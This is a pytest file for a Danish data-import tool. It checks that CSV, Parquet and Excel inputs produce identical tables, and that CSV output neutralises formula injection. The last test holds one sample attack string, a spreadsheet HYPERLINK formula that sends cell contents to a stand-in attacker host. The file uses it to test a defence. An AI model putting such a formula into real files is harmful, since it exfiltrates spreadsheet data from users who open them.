"""The same data as Danish Excel CSV, international CSV, Parquet and Excel import to identical tables."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter

from tvaers.core.config import Settings
from tvaers.data.contracts import CONTRACTS, Kind
from tvaers.data.importer import import_folder
from tvaers.data.schema import stored_columns

from .conftest import FIXTURES, TEST_KEY, analytics_rows

ARROW = {Kind.DATE: pa.date32(), Kind.AMOUNT: pa.decimal128(18, 2), Kind.INTEGER: pa.int64(),
         Kind.QUANTITY: pa.decimal128(18, 4)}  # fmt: skip


def _typed_columns(table: str, header: list[str], rows: list[list[str]]) -> dict[str, pa.Array]:
    """Typed Arrow columns from the international CSV text, as a finance system would export."""
    contract = CONTRACTS[table]
    out = {}
    for i, name in enumerate(header):
        kind = (
            contract.column(name).kind if name in {c.name for c in contract.columns} else Kind.TEXT
        )
        values = [r[i] or None for r in rows]
        if kind is Kind.DATE:
            out[name] = pa.array(
                [dt.date.fromisoformat(v) if v else None for v in values], pa.date32()
            )
        elif kind in (Kind.AMOUNT, Kind.QUANTITY):
            out[name] = pa.array([Decimal(v) if v else None for v in values], ARROW[kind])
        elif kind is Kind.INTEGER:
            out[name] = pa.array([int(v) if v else None for v in values], pa.int64())
        else:
            out[name] = pa.array(values, pa.string())
    return out


def _as_parquet(target: Path) -> None:
    target.mkdir()
    for path in sorted((FIXTURES / "mini").glob("*.csv")):
        rows = list(csv.reader(path.open(encoding="utf-8")))
        pq.write_table(
            pa.table(_typed_columns(path.stem, rows[0], rows[1:])), target / f"{path.stem}.parquet"
        )


def _as_excel(target: Path) -> None:
    target.mkdir()
    for path in sorted((FIXTURES / "mini").glob("*.csv")):
        rows = list(csv.reader(path.open(encoding="utf-8")))
        typed = _typed_columns(path.stem, rows[0], rows[1:])
        book = xlsxwriter.Workbook(str(target / f"{path.stem}.xlsx"))
        sheet = book.add_worksheet()
        day = book.add_format({"num_format": "dd-mm-yyyy"})
        for j, name in enumerate(rows[0]):
            sheet.write_string(0, j, name)
            for i, value in enumerate(typed[name].to_pylist(), start=1):
                if value is None:
                    continue
                if isinstance(value, dt.date):
                    sheet.write_datetime(i, j, dt.datetime(value.year, value.month, value.day), day)
                elif isinstance(value, Decimal | int):
                    sheet.write_number(i, j, float(value))
                else:
                    sheet.write_string(i, j, value)
        book.close()


def _tables(settings: Settings) -> dict[str, list[tuple]]:
    out = {}
    for table, contract in CONTRACTS.items():
        cols = ", ".join(f'"{n}"' for n, _ in stored_columns(contract))
        out[table] = analytics_rows(settings, table, cols)
    return out


@pytest.fixture
def reference(tmp_path: Path) -> dict[str, list[tuple]]:
    settings = Settings(home=tmp_path / "ref", pseudonym_key=TEST_KEY)
    import_folder(FIXTURES / "mini", settings)
    return _tables(settings)


@pytest.mark.parametrize("variant", ["danish_csv", "parquet", "excel"])
def test_format_imports_to_identical_tables(variant: str, tmp_path: Path, reference: dict) -> None:
    folder = tmp_path / variant
    if variant == "danish_csv":
        shutil.copytree(FIXTURES / "mini_dk", folder)
        raw = (folder / "posteringer.csv").read_bytes()
        assert b"Bel\xf8b" in raw and b";" in raw and b"15.874,00" in raw and b"31-01-2025" in raw
    elif variant == "parquet":
        _as_parquet(folder)
    else:
        _as_excel(folder)
    settings = Settings(home=tmp_path / f"home_{variant}", pseudonym_key=TEST_KEY)
    import_folder(folder, settings)
    assert _tables(settings) == reference
    assert sum(len(rows) for rows in reference.values()) == 48


def test_csv_output_does_not_carry_a_formula_into_a_spreadsheet() -> None:
    """Issue 10 (medium), the bad input: a text from the municipality's files such as
    ``=HYPERLINK(…)`` was written raw to CSV (Excel output was neutralised already); both the
    row-wise and the Arrow (person-level extract) paths now prefix it with an apostrophe."""
    import io

    import pyarrow as pa

    from tvaers.core.publication import DataTable
    from tvaers.reports.output import write_output

    attack = '=HYPERLINK("http://angriber.example/?d="&A1,"Klik")'
    for rows in ([{"text": attack, "n": 1}], pa.table({"text": [attack, "ok"], "n": [1, 2]})):
        out = io.StringIO()
        write_output([DataTable.of("x", rows)], "csv", None, out)
        lines = out.getvalue().splitlines()
        assert lines[1].lstrip('"').startswith("'=HYPERLINK"), lines
